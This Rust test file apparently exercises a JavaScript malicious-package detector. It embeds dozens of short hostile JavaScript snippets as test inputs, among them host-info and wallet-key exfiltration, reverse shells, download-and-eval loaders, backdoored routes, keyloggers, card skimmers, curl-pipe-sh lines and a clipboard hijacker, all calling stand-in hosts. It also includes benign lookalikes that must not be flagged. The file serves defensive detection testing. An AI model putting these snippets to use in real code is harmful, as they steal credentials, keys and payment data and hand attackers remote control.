//! Each technique in at least five disguises, and honest code that looks like it.
#![expect(clippy::unwrap_used, reason = "test code")]

use packguard_javascript::JavaScript;
use packguard_sdk::testing::PackageBuilder;
use packguard_sdk::{Analysis, Analyzer as _, Severity};

fn package(files: &[(&str, &str)]) -> Analysis {
    let mut builder = PackageBuilder::new("npm", "sample");
    for (path, content) in files {
        builder = builder.file(&format!("package/{path}"), content);
    }
    JavaScript::analyze(&builder.build()).unwrap()
}

fn import(code: &str) -> Analysis {
    package(&[
        ("package.json", r#"{"name":"sample","main":"index.js"}"#),
        ("index.js", code),
    ])
}

fn install(code: &str) -> Analysis {
    package(&[
        (
            "package.json",
            r#"{"name":"sample","scripts":{"preinstall":"node i.js"}}"#,
        ),
        ("i.js", code),
    ])
}

fn execute(code: &str) -> Analysis {
    package(&[
        ("package.json", r#"{"name":"sample"}"#),
        ("lib/tool.js", code),
    ])
}

#[track_caller]
fn finds(analysis: &Analysis, code: &str, rule: &str, least: Severity) {
    assert!(
        analysis
            .findings()
            .iter()
            .any(|finding| finding.rule == rule && finding.severity >= least),
        "{rule} at {least:?} not in {:#?}\n{code}",
        analysis
            .findings()
            .iter()
            .map(|finding| (&finding.rule, finding.severity, &finding.title))
            .collect::<Vec<_>>()
    );
}

#[track_caller]
fn quiet(analysis: &Analysis, code: &str) {
    let loud: Vec<_> = analysis
        .findings()
        .iter()
        .filter(|finding| finding.severity >= Severity::Medium)
        .map(|finding| (&finding.rule, finding.severity, &finding.title))
        .collect();
    assert!(loud.is_empty(), "{loud:#?}\n{code}");
}

#[test]
fn probes_report_home() {
    for code in [
        "const os=require('os'),https=require('https');const d=JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:__dirname});const r=https.request({hostname:'a.example',method:'POST'},()=>{});r.write(d);r.end()",
        "const os=require('os');const {exec}=require('child_process');exec(`curl https://a.example/?h=${os.hostname()}&u=${os.userInfo().username}`)",
        "const dns=require('dns'),os=require('os');const label=Buffer.from(os.hostname()+'|'+os.userInfo().username).toString('hex');dns.resolve(label+'.a.example',()=>{})",
        "const os=require('os');class P{constructor(){this.d={h:os.hostname(),u:os.userInfo().username}} send(){require('axios').post('https://a.example/c',this.d)}} new P().send()",
        "import os from 'os';import https from 'https';const info=()=>({h:os.hostname(),n:os.networkInterfaces(),c:process.cwd()});async function go(){const q=new URLSearchParams(info()).toString();https.get('https://a.example/?'+q)} go()",
        "const o=require('os');var t={};t['h']=o.hostname();t['u']=o.userInfo();fetch('https://a.example',{method:'POST',body:JSON.stringify(t)}).catch(()=>{})",
        "const {hostname,userInfo}=require('node:os');const p=require('./package.json');const data=[p.name,hostname(),userInfo().username,process.cwd()].join(',');require('http').get(`http://a.example/${encodeURIComponent(data)}`)",
    ] {
        finds(&install(code), code, "js-exfiltrate-host", Severity::High);
        finds(&import(code), code, "js-exfiltrate-host", Severity::High);
    }
    let code = "const os=require('os');const h=os.hostname(),u=os.userInfo();fetch('https://a.example',{method:'POST',body:JSON.stringify({h,u})})";
    finds(&install(code), code, "js-gathers-host", Severity::Medium);
    for code in [
        "const os=require('os');exports.report=(u)=>fetch(u,{body:os.hostname()})",
        "const os=require('os');console.log(os.hostname(),os.userInfo().username,process.cwd());exports.get=()=>fetch('https://api.example/v1')",
    ] {
        quiet(&import(code), code);
    }
}

#[test]
fn keys_of_wallets_leave() {
    for code in [
        "exports.sign=function(privateKey,tx){fetch('https://a.example/k?k='+privateKey);return s(tx)}",
        "exports.fromMnemonic=(mnemonic)=>{require('axios').post('https://a.example',{m:mnemonic});return d(mnemonic)}",
        "const https=require('https');class W{constructor(privateKey){this.k=privateKey} save(){const r=https.request({hostname:'a.example',method:'POST'});r.write(JSON.stringify({k:this.k}));r.end()}} module.exports=W",
        "function report(v){const u=Buffer.from('aHR0cHM6Ly9hLmV4YW1wbGUv','base64').toString();fetch(u,{headers:{'x-trace':v}})} exports.load=(keypair)=>{report(Buffer.from(keypair.secretKey).toString('hex'));return keypair}",
        "export async function importWallet({seedPhrase}){await fetch('https://a.example/log',{method:'POST',body:JSON.stringify([...seedPhrase])})}",
        "exports.f=(w)=>{const k=w.privateKey;const q=new URLSearchParams({k}).toString();require('https').get('https://a.example/?'+q)}",
    ] {
        finds(
            &execute(code),
            code,
            "js-exfiltrate-wallet-keys",
            Severity::High,
        );
    }
    for code in [
        "exports.f=(privateKey,claims)=>fetch('https://api.example',{headers:{authorization:jwt.sign(claims,privateKey)}})",
        "exports.f=async(wallet,tx)=>fetch('https://rpc.example',{method:'POST',body:JSON.stringify(await wallet.signTransaction(tx))})",
        "exports.verify=(secretKey,token)=>fetch('https://captcha.example/siteverify?secret='+secretKey)",
        "exports.f=(url,privateKey)=>fetch(url,{method:'POST',body:privateKey})",
    ] {
        quiet(&execute(code), code);
    }
}

#[test]
fn downloaded_code_runs_in_every_way() {
    for code in [
        "const axios=require('axios');axios.get('https://a.example').then(r=>eval(r.data.cookie))",
        "const axios=require('axios');(async()=>{try{await axios.get('https://a.example/x')}catch(e){new Function('require',e.response.data)(require)}})()",
        "const axios=require('axios');axios.get('https://a.example').catch(err=>{const h=new (Function.constructor)('require',err.response.data.token);h(require)})",
        "const https=require('https');function load(u,cb){https.get(u,r=>{let b='';r.on('data',c=>{b+=c});r.on('end',()=>cb(b))})} load('https://a.example',(t)=>{(0,eval)(t)})",
        "class L{async go(){const r=await fetch('https://a.example');this.code=await r.text();this.run()} run(){eval(this.code)}} new L().go()",
        "const {ethers}=require('ethers');const c=new ethers.Contract('0x0000000000000000000000000000000000000000',abi,p);c.getString().then(s=>eval(s))",
        "const {Connection}=require('@solana/web3.js');const c=new Connection('https://rpc.example');c.getSignaturesForAddress(k).then(l=>new Function('require',l[0].memo)(require))",
    ] {
        let analysis = import(code);
        finds(&analysis, code, "js-download-eval", Severity::Low);
    }
}

#[test]
fn shells_are_given_away() {
    for code in [
        "const net=require('net'),{spawn}=require('child_process');const s=spawn('/bin/sh');const c=net.connect(4444,'198.51.100.7',()=>{c.pipe(s.stdin);s.stdout.pipe(c)})",
        "const net=require('net'),cp=require('child_process');const sh=cp.spawn('cmd.exe');const c=new net.Socket();c.connect(1,'a.example');c.on('data',d=>sh.stdin.write(d));sh.stdout.on('data',d=>c.write(d))",
        "const net=require('net');const c=net.createConnection(1,'a.example');require('child_process').spawn('bash',['-i'],{stdio:[c,c,c]})",
        "const tls=require('tls'),cp=require('child_process');const c=tls.connect(443,'a.example');const p=cp.spawn('powershell.exe');c.pipe(p.stdin);p.stdout.pipe(c)",
        "(()=>{var n=require('net'),p=require('child_process'),s=p.spawn('sh',[]),c=new n.Socket();c.connect(1,'a.example',()=>{c.pipe(s.stdin);s.stdout.pipe(c);s.stderr.pipe(c)})})()",
    ] {
        finds(&import(code), code, "js-reverse-shell", Severity::Critical);
    }
    let code = "const {spawn}=require('child_process');const p=spawn('sh',['build.sh']);p.stdout.pipe(process.stdout);p.stdin.write('y')";
    quiet(&import(code), code);
}

#[test]
fn servers_with_a_door_are_found() {
    for code in [
        "app.get('/x',(req,res)=>{require('child_process').exec(req.query.c,(e,o)=>res.send(o))})",
        "module.exports=(req,res,next)=>{if(req.headers['x-key']==='k')eval(req.body.code);next()}",
        "const {execSync}=require('child_process');router.post('/y',function(req,res){const {cmd}=req.body;res.end(execSync(cmd))})",
        "app.use((request,response)=>{new Function(request.query.f)()})",
        "exports.h=async(req)=>{const c=req.params.c;require('vm').runInNewContext(Buffer.from(c,'base64').toString())}",
    ] {
        finds(&execute(code), code, "js-backdoor", Severity::High);
    }
    let code = "const {execFile}=require('child_process');app.get('/v',(req,res)=>execFile('git',['show',req.query.r],(e,o)=>res.send(o)))";
    quiet(&execute(code), code);
}

#[test]
fn chats_that_command_are_found() {
    for code in [
        "const {Client}=require('discord.js');const c=new Client();c.on('messageCreate',m=>require('child_process').exec(m.content))",
        "const io=require('socket.io-client');const s=io('https://a.example');s.on('cmd',d=>require('child_process').exec(d,(e,o)=>s.emit('r',o)))",
        "const B=require('node-telegram-bot-api');const b=new B('0:VOID');b.onText(/x/,(m,t)=>require('child_process').execSync(t[1]))",
        "const W=require('ws');const w=new W('wss://a.example');w.on('message',m=>{require('child_process').exec(m.toString())})",
        "const net=require('net');const c=net.connect(1,'a.example');c.on('data',d=>{const o=require('child_process').execSync(String(d));c.write(o)})",
    ] {
        finds(&import(code), code, "js-remote-command", Severity::High);
    }
}

#[test]
fn keys_that_are_pressed_and_cards_leave() {
    for code in [
        "let k='';document.addEventListener('keydown',e=>{k+=e.key;fetch('https://a.example/?k='+k)})",
        "window.addEventListener('keypress',function(ev){navigator.sendBeacon('https://a.example',String(ev.which))})",
        "var b=[];document.addEventListener('keyup',(e)=>b.push(e.key));setInterval(()=>fetch('https://a.example',{method:'POST',body:b.join('')}),5000)",
        "const v=document.querySelector('#cardnumber').value,c=document.querySelector('#cvv').value;fetch('https://a.example',{method:'POST',body:JSON.stringify({v,c})})",
        "const d={n:document.getElementById('cc-number').value,x:document.getElementById('cvc').value};new Image().src='';fetch('https://a.example/?'+btoa(JSON.stringify(d)))",
    ] {
        finds(
            &import(code),
            code,
            "js-exfiltrate-captured",
            Severity::High,
        );
    }
    for code in [
        "input.addEventListener('keyup',e=>{fetch('https://search.example/?q='+e.target.value)})",
        "document.addEventListener('keydown',e=>{if(e.key==='Escape')close()});fetch('https://api.example/v1')",
    ] {
        quiet(&import(code), code);
    }
}

#[test]
fn entries_of_other_kinds_are_known() {
    let code = "const os=require('os');function activate(){fetch('https://a.example',{method:'POST',body:JSON.stringify({h:os.hostname(),u:os.userInfo().username})})} exports.activate=activate";
    let extension = package(&[
        (
            "package.json",
            r#"{"name":"sample","main":"./out/e.js","engines":{"vscode":"^1.0.0"}}"#,
        ),
        ("out/e.js", code),
    ]);
    finds(&extension, code, "js-exfiltrate-host", Severity::High);
    let probe = "const os=require('os');fetch('https://a.example',{method:'POST',body:JSON.stringify({h:os.hostname(),u:os.userInfo().username})})";
    let action = package(&[
        (
            "action.yml",
            "name: a\nruns:\n  using: node20\n  main: 'dist/i.js'\n",
        ),
        ("dist/i.js", probe),
    ]);
    finds(&action, probe, "js-exfiltrate-host", Severity::High);
    let shell = package(&[
        (
            "package.json",
            r#"{"name":"sample","scripts":{"postinstall":"sh ./run.sh"}}"#,
        ),
        ("run.sh", "#!/bin/sh\nnode tools/i.js\n"),
        ("tools/i.js", probe),
    ]);
    finds(&shell, probe, "js-gathers-host", Severity::Medium);
    let page = package(&[(
        "x.html",
        "<html><script>eval(atob('Y29uc29sZS5sb2coMSk='))</script></html>",
    )]);
    finds(&page, "html", "js-decode-eval", Severity::Medium);
}

#[test]
fn miners_that_are_started_are_found() {
    let code = "require('child_process').spawn('./xmrig',['-o','stratum+tcp://pool.example:3333'])";
    finds(&import(code), code, "js-miner", Severity::High);
}

#[test]
fn code_in_data_is_found() {
    for code in [
        "const fs=require('fs'),path=require('path');eval(fs.readFileSync(path.join(__dirname,'logo.png')).toString().slice(800))",
        "const f=require('fs');new Function('require',f.readFileSync(__dirname+'/assets/a.woff','utf8').split('//')[1])(require)",
        "const p=require('./package.json');eval(Buffer.from(p.config.seed,'base64').toString())",
        "const {readFileSync}=require('fs');const src=readFileSync(__filename,'utf8');eval(src.split('/*')[1].split('*/')[0])",
        "require('fs').readFile('./LICENSE.txt','utf8',(e,t)=>{require('vm').runInThisContext(t.slice(1000))})",
    ] {
        finds(&import(code), code, "js-data-eval", Severity::High);
    }
    for code in [
        "const fs=require('fs');const vm=require('vm');exports.run=(f)=>vm.runInThisContext(fs.readFileSync(f,'utf8'))",
        "const {version}=require('./package.json');new Function('return '+x)()",
    ] {
        quiet(&import(code), code);
    }
}

#[test]
fn code_for_another_node_and_written_scripts_are_read() {
    let code = "const {spawn}=require('child_process');spawn(process.execPath,['-e',Buffer.from('Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik=','base64').toString()],{detached:true,stdio:'ignore'})";
    finds(&import(code), code, "js-decode-eval", Severity::High);
    let code = "require('child_process').spawn('node',['-e',`require('child_process').exec('curl https://a.example | sh')`])";
    finds(&import(code), code, "js-shell-download-run", Severity::High);
    let code =
        "require('fs').writeFileSync('/tmp/a.sh','#!/bin/sh\\ncurl https://a.example/x | sh\\n')";
    finds(
        &install(code),
        code,
        "js-shell-download-run",
        Severity::High,
    );
    let code =
        "app.get('/x',(q,r)=>{if(q.query.k==='k')require('child_process').exec('rm -rf *')})";
    finds(&execute(code), code, "js-shell-destroy", Severity::High);
    let code = "const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t))c.writeSync('x');if(/^0x[a-fA-F0-9]{40}$/.test(t))c.writeSync('y')},500)";
    finds(&import(code), code, "js-wallet-hijack", Severity::High);
    for code in [
        "require('child_process').spawn('node',['-e','console.log(process.version)'])",
        "require('child_process').execSync('rm -rf *',{cwd:out})",
        "require('fs').writeFileSync('run.sh','#!/bin/sh\\nexec node \"$0\"\\n')",
    ] {
        quiet(&import(code), code);
    }
}
